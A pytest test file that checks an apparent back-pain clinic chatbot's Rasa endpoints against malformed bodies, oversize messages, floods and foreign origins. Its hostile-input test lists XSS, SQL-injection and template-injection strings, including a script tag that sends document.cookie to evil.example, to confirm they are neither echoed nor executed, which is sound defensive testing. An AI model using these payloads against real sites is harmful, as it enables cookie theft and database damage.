"""The public endpoints of a real `rasa run` against malformed, hostile and flooding input."""

from __future__ import annotations

import json
import sqlite3
import urllib.request
import uuid

import pytest

from ryggvett.message_guard import max_message_chars, system_message
from tests.servers import CALLBACK_TOKEN, REST_TOKEN, post_json


def post_raw(url: str, body: bytes, token: str = REST_TOKEN) -> tuple[int, bytes, dict]:
    request = urllib.request.Request(
        url, data=body, method="POST", headers={"Content-Type": "application/json", "Authorization": f"Bearer {token}"}
    )
    try:
        with urllib.request.urlopen(request, timeout=120) as response:
            return response.status, response.read(), dict(response.headers)
    except urllib.error.HTTPError as error:
        return error.code, error.read(), dict(error.headers)


def rest(rasa_server) -> str:
    return f"{rasa_server.url}/webhooks/rest/webhook"


def sender() -> str:
    return f"bad-input-{uuid.uuid4().hex[:8]}"


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (b"", "not valid JSON"),
        (b"{not json", "not valid JSON"),
        (b'{"sender": "x", "message": "\xff\xfe"}', "not valid UTF-8"),
        (b"[1, 2]", "JSON object"),
        (b'"just a string"', "JSON object"),
        (b'{"message": "hei"}', '"sender"'),
        (b'{"sender": ["x"], "message": "hei"}', '"sender"'),
        (b'{"sender": "", "message": "hei"}', '"sender"'),
        (b'{"sender": "x", "message": 5}', '"message" must be a string'),
        (b'{"sender": "x", "message": null}', '"message" must be a string'),
        (b'{"sender": "x", "message": "   \\n\\t "}', '"message" is empty'),
        (b'{"sender": "x", "message": "\\u0000\\u0007"}', '"message" is empty'),
        (b'{"sender": "x", "message": "hei", "metadata": [1]}', '"metadata"'),
        (json.dumps({"sender": "x" * 200, "message": "hei"}).encode(), '"sender"'),
    ],
)
def test_malformed_payloads_get_a_clear_400(rasa_server, body, reason):
    status, answer, _ = post_raw(rest(rasa_server), body)
    assert status == 400 and reason in json.loads(answer)["error"]


def test_a_body_over_the_size_limit_gets_413(rasa_server):
    status, _, _ = post_raw(rest(rasa_server), json.dumps({"sender": sender(), "message": "x" * 70_000}).encode())
    assert status == 413


@pytest.mark.parametrize("language", ["nb", "en"])
def test_a_message_over_the_length_limit_gets_a_polite_request_to_shorten_it(rasa_server, language):
    words = {
        "nb": "jeg har vondt i ryggen og lurer på hva jeg skal gjøre ",
        "en": "my back hurts and I wonder what to do ",
    }
    text = (words[language] * 200)[: max_message_chars() + 50]
    status, answer = post_json(rest(rasa_server), {"sender": sender(), "message": text}, REST_TOKEN)
    assert status == 200 and [r["text"] for r in json.loads(answer)] == [system_message("message_too_long", language)]


@pytest.mark.parametrize(
    "text",
    [
        "😭😭😭",
        "hei\x00\x07 jeg har vondt i ryggen\u200b",
        "<b>hei</b><img src=x onerror=alert(1)> er det farlig å løfte?",
        "'; DROP TABLE events; --",
        '" OR 1=1 --',
        "{{7*7}} ${7*7} {last_source} %s %(x)s ${RYGGVETT_REST_TOKEN}",
        "<script>fetch('https://evil.example/'+document.cookie)</script>",
    ],
)
def test_hostile_or_odd_text_gets_an_ordinary_reply_and_nothing_is_injected(rasa_server, text):
    conversation = sender()
    status, answer = post_json(rest(rasa_server), {"sender": conversation, "message": text}, REST_TOKEN)
    assert status == 200
    replies = [r.get("text") or "" for r in json.loads(answer)]
    assert any(replies)
    joined = " ".join(replies)
    for injected in ("49", "<img", "<script", "<b>", REST_TOKEN, "DROP TABLE"):
        assert injected not in joined, injected
    with sqlite3.connect(rasa_server.tracker_db) as db:  # the table is still there, the text stored as text
        stored = [
            row[0]
            for row in db.execute("select data from events where sender_id = ? and type_name = 'user'", (conversation,))
        ]
    assert stored and json.loads(stored[0])["text"] != ""


def test_a_flood_from_one_sender_is_stopped_with_429(rasa_server):
    flooder, other = sender(), sender()
    statuses = [post_json(rest(rasa_server), {"sender": flooder, "message": "hei"}, REST_TOKEN)[0] for _ in range(20)]
    assert statuses == [200] * 20
    status, answer, headers = post_raw(rest(rasa_server), json.dumps({"sender": flooder, "message": "hei"}).encode())
    assert status == 429 and int(headers["Retry-After"]) > 0
    assert json.loads(answer)["text"] == system_message("too_many_messages", "nb")
    assert post_json(rest(rasa_server), {"sender": other, "message": "hei"}, REST_TOKEN)[0] == 200


def test_the_callback_channel_checks_payloads_too(rasa_server):
    url = f"{rasa_server.url}/webhooks/callback/webhook"
    status, answer, _ = post_raw(url, b"{broken", token=CALLBACK_TOKEN)
    assert status == 400 and "JSON" in json.loads(answer)["error"]


def socketio_connects(rasa_url: str, origin: str) -> bool:
    """An Engine.IO 4 long-polling handshake and a Socket.IO connect, as a browser on `origin` does it."""
    base = f"{rasa_url}/socket.io/?EIO=4&transport=polling"
    headers = {"Origin": origin}
    with urllib.request.urlopen(urllib.request.Request(base, headers=headers), timeout=30) as response:
        sid = json.loads(response.read().decode()[1:])["sid"]
    connect = urllib.request.Request(f"{base}&sid={sid}", data=b"40", headers=headers, method="POST")
    urllib.request.urlopen(connect, timeout=30).read()
    with urllib.request.urlopen(urllib.request.Request(f"{base}&sid={sid}", headers=headers), timeout=30) as response:
        answer = response.read().decode()
    return answer.startswith("40")  # "44..." is Socket.IO's connect_error


def test_the_web_chat_only_accepts_the_clinics_origin(rasa_server, web_port):
    assert socketio_connects(rasa_server.url, f"http://127.0.0.1:{web_port}")
    assert not socketio_connects(rasa_server.url, "https://evil.example")
